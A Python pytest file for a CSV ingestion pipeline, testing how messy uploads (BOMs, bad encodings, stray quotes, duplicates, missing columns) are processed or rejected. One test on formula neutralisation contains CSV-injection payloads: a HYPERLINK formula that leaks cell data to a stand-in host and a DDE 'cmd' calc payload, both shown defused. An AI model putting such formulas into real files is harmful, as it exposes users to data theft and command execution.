"""Messy uploads in one run: each ends processed (with exact rows) or failed (with a reason naming the file)."""

from __future__ import annotations

from support import PROCESSING_DATE, read_output

from csv_ingest.contract import output

HEADER_ROW = list(output.PROCESSED_COLUMNS)
REJECTED_HEADER = list(output.REJECTED_COLUMNS)
D = output.timestamp_text(PROCESSING_DATE)


def out(messy_run, stem, rejected=False):
    return next((messy_run["out"] / ("rejected" if rejected else "processed") / stem).glob("v=*"))


def test_bom_crlf_quoted_fields_and_unicode_names(messy_run):
    rows = read_output(out(messy_run, "bom_crlf_quotes"))
    f = "input/bom_crlf_quotes.csv"
    assert rows == [
        HEADER_ROW,
        ["1", "Smith, John", "john@example.com", "true", "2025-04-01", "1234.5", "high", "active", "1234.5", "", D, f],
        ["2", 'Jane "Jj" Doe', "jane@example.com", "true", "2025-04-02", "-20.0", "low", "active", "1214.5", "", D, f],
        ["3", "Zoë Ñúñez", "zoe@example.com", "true", "", "", "", "pending", "", "invalid_date;missing_amount", D, f],
        ["4", "李 小龍", "li@example.com", "true", "2025-04-02", "", "", "pending", "", "invalid_amount", D, f],
    ]
    r = messy_run["results"]["bom_crlf_quotes.csv"]
    assert (r.status, r.rows_read, r.rows_processed, r.rows_rejected) == ("processed", 4, 4, 0)
    assert r.quality_issues == {"invalid_date": 1, "missing_amount": 1, "invalid_amount": 1}


def test_too_few_and_too_many_fields_are_rejected_with_line_numbers(messy_run):
    rejected = read_output(out(messy_run, "fields", rejected=True))
    assert rejected == [
        REJECTED_HEADER,
        ["input/fields.csv", "3", "expected 6 fields as in the header, found 3", "2,C D,c@example.com"],
        [
            "input/fields.csv",
            "5",
            "expected 6 fields as in the header, found 7",
            "3,E F,e@example.com,01-04-2025,10,active,extra",
        ],
    ]
    assert [r[0] for r in read_output(out(messy_run, "fields"))[1:]] == ["1", "4"]
    r = messy_run["results"]["fields.csv"]
    # The blank line 4 is not a row.
    assert (r.rows_read, r.rows_processed, r.rows_rejected, r.duplicates_removed) == (4, 2, 2, 0)


def test_a_quoted_field_over_several_lines_is_one_record_and_a_stray_quote_rejects_its_line_only(messy_run):
    rows = read_output(out(messy_run, "multiline"))
    assert [(r[0], r[1], r[5]) for r in rows[1:]] == [
        ("1", "Ann Lee", "10.0"),  # the name rule turns the line break into a space
        ("2", 'Bob "B" King', "1000.0"),
        ("4", "Cy Dee", "10.0"),
    ]
    rejected = read_output(out(messy_run, "multiline", rejected=True))
    assert rejected[1:] == [
        [
            "input/multiline.csv",
            "6",
            "malformed CSV record (unbalanced quotes)",
            '3,"stray quote,c@example.com,01-04-2025,10,active',
        ]
    ]
    r = messy_run["results"]["multiline.csv"]
    # 4 records on 7 physical lines: line numbers are the first line of each record.
    assert (r.rows_read, r.rows_processed, r.rows_rejected) == (4, 3, 1)


def test_missing_column_fails_the_file_with_its_name(messy_run):
    r = messy_run["results"]["missing_col.csv"]
    assert r.status == "failed"
    assert r.error.startswith("input/missing_col.csv: missing required column(s): amount")
    assert not (messy_run["out"] / "processed" / "missing_col").exists()


def test_empty_file_fails(messy_run):
    r = messy_run["results"]["empty.csv"]
    assert (r.status, r.error) == ("failed", "input/empty.csv: file is empty (no header row)")


def test_header_only_file_is_processed_with_no_rows(messy_run):
    assert read_output(out(messy_run, "header_only")) == [HEADER_ROW]
    assert read_output(out(messy_run, "header_only", rejected=True)) == [REJECTED_HEADER]
    r = messy_run["results"]["header_only.csv"]
    assert (r.status, r.rows_read, r.rows_processed) == ("processed", 0, 0)


def test_a_line_that_is_not_utf8_is_rejected_with_its_number_and_the_rest_processed(messy_run):
    r = messy_run["results"]["latin1.csv"]
    assert (r.status, r.rows_read, r.rows_processed, r.rows_rejected) == ("processed", 2, 1, 1)
    assert read_output(out(messy_run, "latin1", rejected=True))[1:] == [
        [
            "input/latin1.csv",
            "2",
            "not valid UTF-8 (byte 6 of the record)",
            "1,Ren\\xe9 Dupont,r@example.com,01-04-2025,10,active",
        ]
    ]
    assert [row[1] for row in read_output(out(messy_run, "latin1"))[1:]] == ["Ann Lee"]


def test_binary_file_fails_as_not_csv(messy_run):
    r = messy_run["results"]["binary.csv"]
    assert (r.status, r.error) == ("failed", "input/binary.csv: not valid UTF-8 (header row, byte 1)")


def test_columns_are_found_by_header_name_in_any_order(messy_run):
    rows = read_output(out(messy_run, "reordered"))
    assert rows[1] == [
        "9", "Reo Rdr", "r@example.com", "true", "2025-04-01", "5.0", "low", "active", "5.0", "", D,
        "input/reordered.csv",
    ]  # fmt: skip


def test_exact_duplicates_compare_cleaned_values_and_duplicate_ids_are_flagged(messy_run):
    rows = read_output(out(messy_run, "dups"))
    # Line 7 ("3,C,...,01-04-2025,30,active") equals line 6 once cleaned (spaces, date format, 30.00, ACTIVE).
    assert [(r[0], r[1], r[9]) for r in rows[1:]] == [
        ("1", "A", ""),
        ("2", "B", "duplicate_id"),
        ("2", "B2", "duplicate_id"),
        ("3", "C", ""),
    ]
    r = messy_run["results"]["dups.csv"]
    assert (r.rows_read, r.rows_processed, r.rows_rejected, r.duplicates_removed) == (6, 4, 0, 2)
    assert r.quality_issues == {"duplicate_id": 2}


def test_formula_cells_are_neutralised_in_processed_and_rejected_files(messy_run):
    rows = read_output(out(messy_run, "formulas"))
    assert [r[:9] for r in rows[1:]] == [
        [
            '\'=HYPERLINK("http://x.example/?a"&A1;"click")', "'@Sum(1+1)", "'+cmd@example.com", "true",
            "2025-04-01", "-12.5", "low", "'=1+1", "-12.5",
        ],
        ["'-2+3", "Ann", "a@example.com", "true", "2025-04-01", "10.0", "low", "active", "10.0"],
    ]  # fmt: skip
    rejected = read_output(out(messy_run, "formulas", rejected=True))
    assert rejected[1][3] == "'=cmd|' /C calc'!A0,x"


def test_row_counts_of_every_file_as_counted_by_hand(messy_run):
    counts = {
        k: (r.status, r.rows_read, r.rows_processed, r.rows_rejected, r.duplicates_removed)
        for k, r in messy_run["results"].items()
    }
    assert counts == {
        "bom_crlf_quotes.csv": ("processed", 4, 4, 0, 0),
        "fields.csv": ("processed", 4, 2, 2, 0),
        "missing_col.csv": ("failed", 0, 0, 0, 0),
        "empty.csv": ("failed", 0, 0, 0, 0),
        "header_only.csv": ("processed", 0, 0, 0, 0),
        "latin1.csv": ("processed", 2, 1, 1, 0),
        "binary.csv": ("failed", 0, 0, 0, 0),
        "reordered.csv": ("processed", 1, 1, 0, 0),
        "multiline.csv": ("processed", 4, 3, 1, 0),
        "formulas.csv": ("processed", 3, 2, 1, 0),
        "dups.csv": ("processed", 6, 4, 0, 2),
    }
